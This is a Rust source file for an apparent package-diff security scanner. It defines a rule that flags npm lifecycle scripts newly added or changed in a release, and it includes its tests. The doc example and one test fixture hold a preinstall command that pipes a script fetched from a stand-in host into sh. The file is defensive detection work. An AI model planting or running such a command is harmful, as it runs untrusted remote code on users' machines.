use palisade_diagnostics::{Finding, Severity};

use crate::checkers::manifest::INSTALL_EVENTS;
use crate::classify;
use crate::diff::rules::{DiffContext, DiffRule};
use crate::diff::{Capability, Change};
use crate::rule::{RuleMeta, declare_rule};

declare_rule! {
    /// ## What it does
    /// Reports a lifecycle script the new version adds or changes
    /// (`preinstall`, `install`, `postinstall`, and the weaker `prepare`,
    /// `preuninstall`...), and each new command line of a shell file such a
    /// script runs. High for an install script; critical when the new command
    /// downloads and runs something, opens a reverse shell or decodes a
    /// payload; medium for the other lifecycle events.
    ///
    /// ## Why is this bad?
    /// Install scripts run with the user's rights the moment the package is
    /// installed, before anyone uses it. Most packages never need one; a
    /// patch release that suddenly gains one is how worms and droppers
    /// spread.
    ///
    /// ## Example
    /// ```diff
    ///    "scripts": {
    /// +    "preinstall": "curl -s https://x.invalid/i.sh | sh",
    ///      "test": "node test.js"
    /// ```
    ///
    /// ## References
    /// - Shai-Hulud (September 2025): a `postinstall` added to republished versions.
    /// - npm docs: lifecycle scripts.
    NewInstallScript {
        id: "diff/new-install-script",
        severity: High,
        status: Stable,
        summary: "The new version adds or changes a lifecycle script",
    }
}

impl DiffRule for NewInstallScript {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, ctx: &DiffContext<'_>, change: &Change) -> Option<Finding> {
        let Capability::Script { fact, previous } = &change.capability else {
            return None;
        };
        let traits = classify::command_traits(&fact.command);
        let install = INSTALL_EVENTS.contains(&fact.event.as_str());
        let severity =
            if install && (traits.download_exec || traits.reverse_shell || traits.decodes) {
                Severity::Critical
            } else if install {
                Severity::High
            } else {
                ctx.raised(Severity::Medium)
            };
        let what = if fact.at.location.path == "package.json" {
            match previous {
                Some(p) => format!(
                    "changes the `{}` script from `{p}` to `{}`",
                    fact.event, fact.command
                ),
                None => format!("adds the `{}` script `{}`", fact.event, fact.command),
            }
        } else {
            format!(
                "adds `{}` to the shell file its `{}` script runs",
                fact.command, fact.event
            )
        };
        let threat = if traits.download_exec {
            ", which downloads and runs code"
        } else if traits.reverse_shell {
            ", which opens a reverse shell"
        } else if traits.decodes {
            ", which decodes a payload"
        } else {
            ""
        };
        let message = format!("{} {what}{threat}{}", ctx.versions(), ctx.why());
        Some(
            ctx.finding(&Self::META, severity, message, change)
                .with_help("install with `--ignore-scripts` and find out why the script was added"),
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::diff::tester::{DiffTester, Pair};

    #[test]
    fn rule() {
        DiffTester::new(&NewInstallScript::META).test(
            &[
                Pair(
                    &[("package.json", "{\n  \"name\": \"m\",\n  \"version\": \"1.2.3\",\n  \"scripts\": {\n    \"test\": \"node test.js\"\n  }\n}\n")],
                    &[("package.json", "{\n  \"name\": \"m\",\n  \"version\": \"1.2.4\",\n  \"scripts\": {\n    \"preinstall\": \"curl -s https://x.invalid/i.sh | sh\",\n    \"test\": \"node test.js\"\n  }\n}\n")],
                ),
                Pair(
                    &[("package.json", r#"{"name":"m","version":"1.0.0","scripts":{"postinstall":"node build.js"}}"#), ("build.js", "")],
                    &[("package.json", r#"{"name":"m","version":"1.1.0","scripts":{"postinstall":"node build.js && node x.js"}}"#), ("build.js", ""), ("x.js", "")],
                ),
            ],
            &[
                Pair(
                    &[("package.json", r#"{"name":"m","version":"1.0.0","scripts":{"postinstall":"node build.js","test":"jest"}}"#), ("build.js", "")],
                    &[("package.json", r#"{"name":"m","version":"1.0.1","scripts":{"test":"vitest","postinstall":"node build.js"}}"#), ("build.js", "")],
                ),
                Pair(
                    &[("package.json", r#"{"name":"m","version":"1.0.0","scripts":{"postinstall":"node build.js"}}"#), ("build.js", "")],
                    &[("package.json", r#"{"name":"m","version":"1.0.1"}"#), ("build.js", "")],
                ),
            ],
        );
    }
}
